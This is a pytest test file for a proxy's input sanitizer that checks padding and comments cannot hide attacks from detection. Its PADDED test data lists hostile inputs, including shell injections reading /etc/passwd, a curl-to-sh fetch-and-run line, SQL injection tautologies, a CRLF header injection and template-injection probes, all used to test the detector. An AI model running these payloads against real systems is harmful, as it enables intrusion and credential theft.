from __future__ import annotations

import pytest

from proxy.sanitize import inspect
from proxy.sanitize.padding import folded
from tests.unit.sanitize.families import families


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a" + " " * 7 + "b", "a" + " " * 7 + "b"),
        ("a" + " " * 8 + "b", "a b"),
        ("a \t\r\n" + " " * 8 + "b", "a\nb"),
        ("1/*x*//**/ or/**/2", "1 or 2"),
        ("1/*!or*/", "1/*!or*/"),
        ("/* open" + " " * 9 + "x", "/* open x"),
        ("x" * 64, "x" * 64),
        ("x" * 65 + "'", "x" * 32 + "'"),
    ],
)
def test_what_only_fills_a_text_is_folded(text: str, left: str) -> None:
    assert folded(text) == left


PADDED = {
    "shell": ["127.0.0.1{blanks};cat /etc/passwd", "x{blanks}|curl http://e/x|sh", "; ; ; ; ; ; ; ; ;cat /etc/passwd"],
    "sql": [
        "1{blanks}or 1=1",
        "'{blanks}or 1=1-- ",
        "1/*{word}*/or 1=1",
        "1' or/*{word}*/1=1#",
        "1 union/*{word}*/select 1,2",
        "{word} or 1=1",
    ],
    "header": ["http://x/{word}\r\nSet-Cookie: a=b"],
    "template": ["{{{{'{word}'.__class__}}}}", "{{{{'{blanks}'.__class__}}}}", "{{{{\n7*7\n}}}}"],
}


@pytest.mark.parametrize("length", [7, 41, 64, 397, 1100, 20000])
@pytest.mark.parametrize("family", PADDED)
def test_no_filling_hides_an_attack(family: str, length: int) -> None:
    texts = [text.format(blanks=" " * length, word="a" * length) for text in PADDED[family]]
    assert [text for text in texts if family not in families(text)] == []


def test_expressions_are_read_to_what_closes_them() -> None:
    assert families("{{'" + "a-" * 200 + "'.__class__}}") == {"template"}


def test_a_finding_in_a_folded_text_says_how_it_was_read() -> None:
    (finding, *_) = inspect("1" + " " * 41 + "or 1=1")
    assert finding.reading == "1 or 1=1"
    assert finding.span in finding.reading


@pytest.mark.parametrize(
    "text", ["name:" + " " * 30 + "Smith and Sons", "def f():\n" + " " * 12 + "return 1 or 2\n", "x /* select one */ y"]
)
def test_what_is_set_out_by_blanks_stays_harmless(text: str) -> None:
    assert families(text) == set()
